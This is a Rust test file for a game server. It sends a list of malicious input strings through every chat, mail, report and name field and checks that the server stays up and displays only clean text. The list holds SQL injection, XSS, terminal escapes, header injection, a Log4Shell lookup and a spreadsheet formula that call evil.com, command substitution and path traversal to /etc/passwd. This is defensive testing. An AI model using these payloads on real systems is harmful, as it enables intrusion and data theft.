//! What somebody types who means harm, in every field that takes text: nothing breaks, and nobody is shown anything
//! that is not text (reliability F73, V30).

use proto::{
    client::{
        BindName, CharCreate, ChatBlock, ChatHeard, ChatNear, ChatNearHeard, ChatPrivate, ChatPrivateHeard,
        ChatReport, ChatSay, MailSend,
    },
    kinds,
    tables::{CharacterRow, MailRow, ReportRow},
    wire,
};

use super::{
    goods::{AT_SHOPS, enter, play},
    *,
};
use crate::logic::text;

const PAYLOADS: &[&str] = &[
    "'; DROP TABLE account; --",
    "' OR '1'='1",
    "\"; SELECT * FROM account WHERE 1=1 /*",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[url=http://evil.com]free gold[/url]",
    "[free gold](javascript:alert(1))",
    "<color=red>SYSTEM</color>: give me your password",
    "|cffff0000red|r |Hitem:1|h[x]|h",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m",
    "\u{90}+q544e\u{9c}\u{1b}P$q\u{1b}\\",
    "line\r\nSet-Cookie: a=b\r\n\r\nbody",
    "${jndi:ldap://evil.com/a} {{7*7}} #{7*7} %{7*7} $(id) `id`",
    "%n%n%s%s%x%d{0}{}{:?}",
    "../../../../etc/passwd\0.png",
    "C:\\con\\con \\\\evil\\share",
    "{\"a\":1}]}],\"b\":null",
    "=HYPERLINK(\"http://evil.com\",\"gold\")",
    "@everyone +1+1 -1+1",
    "\u{202e}gnp.exe\u{202c} \u{2067}abc\u{2069}",
    "\u{feff}\u{200b}\u{200c}\u{200d}\u{2060}hidden\u{e0041}\u{e0042}",
    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}algo",
    "\u{301}\u{302}\u{303}on the name before",
    "ﷺﷺﷺﷺ \u{fdfd}\u{fdfd}\u{fdfd}",
    "\u{12031}\u{12031} 𒐫𒐫𒐫",
    "\u{fff9}a\u{fffa}b\u{fffb} \u{fffc} \u{fffe} \u{10ffff} \u{e000}",
    "\u{3164}\u{3164}",
    "\u{2800}\u{2800}",
    "лɐןԀ ʇxǝʇ uʍop ǝpısdn",
    "జ్ఞ\u{200c}ా  تارريخ خطير",
    "👩\u{200d}\u{200d}\u{200d}👩 🏴\u{e0067}\u{e007f} \u{1f1e6}\u{1f1e7}\u{1f1e8}",
    "a\u{2028}b\u{2029}c\u{85}d\u{b}e\u{c}f",
    "null NULL undefined NaN true 1e309 -0",
    "ding-bot 0000000000000000 1 1 brb",
];

/// Ida and Bob stand together.
fn two() -> Play {
    let mut play = play(100);
    enter(&mut play, "ana", "Ida", AT_SHOPS);
    enter(&mut play, "bo", "Bob", AT_SHOPS);
    play
}

/// Every field of every command that takes text, with this in it.
fn everywhere(text: &str) -> Vec<(u32, Vec<u8>)> {
    let text = text.to_owned();
    let to = "Bob".to_owned();
    let letter = MailSend { to: to.clone(), ..MailSend::default() };
    vec![
        (kinds::CHAT_SAY, wire::encode(&ChatSay { text: text.clone() })),
        (kinds::CHAT_NEAR, wire::encode(&ChatNear { text: text.clone() })),
        (kinds::CHAT_PRIVATE, wire::encode(&ChatPrivate { to: to.clone(), text: text.clone() })),
        (kinds::CHAT_PRIVATE, wire::encode(&ChatPrivate { to: text.clone(), text: to.clone() })),
        (kinds::MAIL_SEND, wire::encode(&MailSend { subject: text.clone(), ..letter.clone() })),
        (kinds::MAIL_SEND, wire::encode(&MailSend { text: text.clone(), ..letter.clone() })),
        (kinds::MAIL_SEND, wire::encode(&MailSend { to: text.clone(), text: to, ..letter })),
        (kinds::CHAT_BLOCK, wire::encode(&ChatBlock { character: text.clone(), ..ChatBlock::default() })),
        (kinds::CHAT_REPORT, report("Bob", &text)),
        (kinds::CHAT_REPORT, report(&text, "rude")),
        (kinds::CHAR_CREATE, wire::encode(&CharCreate { name: text.clone() })),
        (kinds::BIND_NAME, wire::encode(&BindName { name: text.clone(), password: "correct-horse".into() })),
        (kinds::BIND_NAME, wire::encode(&BindName { name: "Anabel".into(), password: text })),
    ]
}

fn report(character: &str, reason: &str) -> Vec<u8> {
    let (character, reason) = (character.to_owned(), reason.to_owned());
    wire::encode(&ChatReport { character, account: 0, reason })
}

#[test]
fn no_text_that_means_harm_breaks_anything_or_is_shown_with_more_than_text_in_it() {
    for payload in PAYLOADS {
        let mut play = two();
        play.people.transcript.clear();
        for (kind, body) in everywhere(payload) {
            play.command("ana", kind, &body);
            play.run("pass 3000");
        }
        let shown = |text: &str| {
            assert_eq!(text::clean(text), text, "{payload:?} was shown as {text:?}");
        };
        for line in &play.people.transcript {
            assert!(!line.contains(|c: char| c.is_control()), "{payload:?}: {line:?}");
            assert!(!line.contains("internal"), "{payload:?}: {line:?}");
        }
        play.store.rows::<CharacterRow>().iter().for_each(|row| shown(&row.name));
        for row in play.store.rows::<MailRow>() {
            [&row.from_name, &row.subject, &row.text].into_iter().for_each(|text| shown(text));
            assert!(!row.text.contains("://") && !row.subject.contains("evil.com"), "{row:?}");
        }
        for row in play.store.rows::<ReportRow>() {
            [&row.name, &row.reason].into_iter().for_each(|text| shown(text));
            row.evidence.lines().for_each(shown);
        }
        let figures = play.world.figures();
        assert_eq!((figures.panics, figures.records_refused), (0, 0), "{payload:?}");
        assert!(play.people.all["ana"].conn.is_some(), "{payload:?}: it is no reason to close");
        play.run("game dies\nana logs in\nbo logs in");
    }
}

#[test]
fn bytes_that_are_no_text_are_refused_in_every_field() {
    let mut play = two();
    // Field 1, three bytes that are no UTF-8.
    let body = [0x0a, 3, 0xff, 0xfe, 0xc0];
    for kind in [
        kinds::CHAT_SAY,
        kinds::CHAT_NEAR,
        kinds::CHAT_PRIVATE,
        kinds::CHAT_BLOCK,
        kinds::CHAT_REPORT,
        kinds::MAIL_SEND,
        kinds::CHAR_CREATE,
        kinds::BIND_NAME,
    ] {
        play.people.transcript.clear();
        play.command("ana", kind, &body);
        play.run("pass 1000");
        let said = play.people.transcript.join("\n");
        assert!(said.contains(": rejected bad_body"), "{kind}: {said}");
    }
}

#[test]
fn a_line_of_the_greatest_length_fits_into_what_it_is_sent_in() {
    // As long as it may be typed, in names of the greatest length, with numbers of the greatest length.
    let text = "x".repeat(proto::limits::CHAT_BYTES_MAX);
    let name = "鼎".repeat(proto::limits::NAME_BYTES_MAX / 3);
    let account = u64::MAX;
    let lengths = [
        (
            kinds::CHAT_HEARD,
            wire::encode(&ChatHeard { from: account, name: name.clone(), text: text.clone() }),
        ),
        (
            kinds::CHAT_NEAR_HEARD,
            wire::encode(&ChatNearHeard { from: account, name: name.clone(), text: text.clone(), account }),
        ),
        (kinds::CHAT_PRIVATE_HEARD, wire::encode(&ChatPrivateHeard { from: account, name, text })),
    ];
    for (kind, body) in lengths {
        let def = kinds::BUILT_IN.iter().find(|def| def.kind == kind).unwrap();
        assert!(body.len() <= def.body_max, "{}: {}", def.name, body.len());
    }
}
